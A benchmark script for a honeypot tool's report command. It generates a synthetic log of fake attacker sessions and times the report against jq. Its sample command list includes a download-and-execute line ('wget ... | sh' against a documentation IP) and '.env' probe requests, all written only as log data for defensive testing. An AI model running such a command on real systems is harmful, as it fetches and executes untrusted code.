// What `micetrap report` costs on a big log, against `jq -c .` reading the same file (never a timed
// assertion in a test). A log of realistic events (the trap's own ECS writer, sessions of connection,
// payloads both ways, logins, commands and close; 20,000 sources, a long tail of passwords and commands)
// is written to a temp folder, then each reader runs under /usr/bin/time -v: wall time and peak RSS.
//
//   bun scripts/bench-report.ts [--size 1024] (MiB of log, default 1 GiB) [--binary] (dist/micetrap, not the source)
// The log is deleted afterwards; the generating loop is bounded by size and by count.
import { closeSync, mkdtempSync, openSync, rmSync, statSync, writeSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parseArgs } from "node:util";
import { findEntry } from "../src/catalog/index.ts";
import { ecsLine } from "../src/events/ecs.ts";
import type { TrapEvent } from "../src/events/types.ts";

const { values } = parseArgs({ options: { size: { type: "string", default: "1024" }, binary: { type: "boolean", default: false } }, allowPositionals: true });
const sizeMiB = Number(values.size);
if (!Number.isFinite(sizeMiB) || sizeMiB < 1 || sizeMiB > 8192) {
  console.error(`invalid --size "${values.size}": expected MiB from 1 to 8192`);
  process.exit(2);
}
const target = sizeMiB * 1024 * 1024;
const ROOT = join(import.meta.dir, "..");

const entries = ["openssh-7.4p1-debian9", "vsftpd-3.0.3-debian", "apache-2.4.10-debian", "mysql-5.5.62-debian"].map((id) => findEntry(id)).filter((e) => e !== undefined);
if (entries.length === 0) throw new Error("no catalog entries found");

/** A small deterministic generator (xorshift32): the same log on every run. */
let seed = 0x2545f491;
const rnd = (n: number) => {
  seed ^= seed << 13;
  seed ^= seed >>> 17;
  seed ^= seed << 5;
  return (seed >>> 0) % n;
};
const USERS = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "user", "pi", "guest"];
const PASSWORDS = ["123456", "password", "admin", "root", "12345678", "qwerty", "toor", "1qaz2wsx", "P@ssw0rd", "raspberry"];
const COMMANDS = ["uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.9/x.sh -O- | sh", "GET / HTTP/1.1", "GET /.env HTTP/1.1", "POST /wp-login.php HTTP/1.1", "SYST", "PASV", "LIST"];

function session(i: number, t0: number, out: string[]): void {
  const entry = entries[i % entries.length]!;
  const service = entry.service;
  const ip = `203.0.${rnd(80)}.${rnd(250)}`;
  let t = t0;
  const base = (action: TrapEvent["action"]): TrapEvent => ({
    action,
    time: new Date(t++),
    service,
    entry,
    host: { name: "files02", release: "debian-9" },
    sessionId: `b${i.toString(36)}`,
    source: { ip, port: 30000 + rnd(30000) },
    destination: { ip: "192.0.2.10", port: entry.ports[0] ?? 22 },
  });
  out.push(ecsLine(base("connection")));
  const hello = Buffer.from(service === "ssh" ? "SSH-2.0-libssh_0.9.6\r\n" : service === "http" ? `GET /${rnd(1000)} HTTP/1.1\r\nHost: x\r\nUser-Agent: zgrab/0.x\r\n\r\n` : `USER ${USERS[rnd(10)]}\r\n`);
  out.push(ecsLine({ ...base("data"), direction: "in", payload: hello }));
  out.push(ecsLine({ ...base("data"), direction: "out", payload: Buffer.alloc(200 + rnd(1200), 0x41 + rnd(26)) }));
  const logins = rnd(4);
  for (let k = 0; k < logins; k++) {
    // A long tail: one password in four is unique.
    const password = rnd(4) === 0 ? `p${rnd(1_000_000)}` : PASSWORDS[rnd(10)]!;
    out.push(ecsLine({ ...base("login"), user: USERS[rnd(10)]!, password, method: "password" }));
  }
  const commands = rnd(3);
  for (let k = 0; k < commands; k++) out.push(ecsLine({ ...base("command"), command: rnd(5) === 0 ? `echo ${rnd(100000)}` : COMMANDS[rnd(COMMANDS.length)]! }));
  out.push(ecsLine({ ...base("close"), bytesIn: 100 + rnd(2000), bytesOut: 300 + rnd(4000), durationMs: rnd(30000), reason: "peer closed" }));
}

function generate(file: string): { bytes: number; lines: number } {
  const fd = openSync(file, "w");
  let bytes = 0;
  let lines = 0;
  let t0 = Date.parse("2026-11-01T00:00:00.000Z");
  try {
    // Bounded: by size, and by a session count no log of the largest allowed size reaches.
    for (let i = 0; bytes < target && i < 100_000_000; ) {
      const batch: string[] = [];
      for (let k = 0; k < 2000; k++, i++) {
        session(i, t0, batch);
        t0 += 25 + rnd(50);
      }
      const text = batch.join("\n") + "\n";
      bytes += writeSync(fd, text);
      lines += batch.length;
    }
  } finally {
    closeSync(fd);
  }
  return { bytes, lines };
}

interface Measured {
  wallS: number;
  rssMiB: number;
  code: number | null;
}

/** Runs a command under /usr/bin/time -v, stdout to /dev/null: wall time and peak RSS. */
function measure(cmd: string[]): Measured {
  const r = Bun.spawnSync(["/usr/bin/time", "-v", ...cmd], { stdout: "ignore", stderr: "pipe" });
  const err = r.stderr.toString();
  const wall = /Elapsed \(wall clock\) time \(h:mm:ss or m:ss\): (?:(\d+):)?(\d+):([\d.]+)/.exec(err);
  const rss = /Maximum resident set size \(kbytes\): (\d+)/.exec(err);
  if (!wall || !rss) throw new Error(`no /usr/bin/time figures: ${err.slice(-500)}`);
  return { wallS: Number(wall[1] ?? 0) * 3600 + Number(wall[2]) * 60 + Number(wall[3]), rssMiB: Number(rss[1]) / 1024, code: r.exitCode };
}

const dir = mkdtempSync(join(tmpdir(), "micetrap-bench-report-"));
try {
  const file = join(dir, "events.jsonl");
  const g0 = performance.now();
  const { bytes, lines } = generate(file);
  console.log(`log: ${(bytes / 1024 / 1024).toFixed(0)} MiB, ${lines} lines, written in ${((performance.now() - g0) / 1000).toFixed(1)} s (${statSync(file).size} bytes)`);
  const micetrap = values.binary ? [join(ROOT, "dist/micetrap")] : [process.execPath, join(ROOT, "src/cli.ts")];
  const report = measure([...micetrap, "report", file, "--json"]);
  const jq = measure(["jq", "-c", ".", file]);
  const row = (name: string, m: Measured) => console.log(`${name.padEnd(28)} ${m.wallS.toFixed(1).padStart(7)} s  ${m.rssMiB.toFixed(0).padStart(6)} MiB peak RSS  exit ${m.code}  ${(bytes / 1024 / 1024 / m.wallS).toFixed(0)} MiB/s`);
  row(`micetrap report --json${values.binary ? " (bin)" : ""}`, report);
  row("jq -c .", jq);
  console.log(`ratio report/jq: time ${(report.wallS / jq.wallS).toFixed(2)}, peak RSS ${(report.rssMiB / jq.rssMiB).toFixed(2)}`);
} finally {
  rmSync(dir, { recursive: true, force: true });
}
